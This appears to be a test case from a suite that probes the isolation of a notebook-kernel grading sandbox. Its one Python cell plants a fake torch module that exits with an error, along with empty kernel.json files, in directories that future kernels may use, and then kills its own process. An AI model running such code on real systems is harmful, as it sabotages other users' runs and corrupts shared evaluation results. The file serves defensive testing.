# ATTACK: poison_then_die
# KIND: cell
# BASE: correct
# NEEDS: any
# TRIES: Fill the directory of the next kernel before it is made, by every name it may get, and
#     die.
# MUST: Full score: the functions are right.
# SIGN: none
import os
here = os.path.dirname(os.getcwd())
for turn in range(1, 12):
    for path in (f"{os.path.dirname(here)}/kernel-{turn}", f"{here}/kernel-{turn}"):
        try:
            os.makedirs(path + "/work", exist_ok=True)
            with open(path + "/kernel.json", "w") as file: file.write("{}")
            with open(path + "/work/torch.py", "w") as file: file.write("raise SystemExit(1)")
        except OSError: pass
os._exit(1)
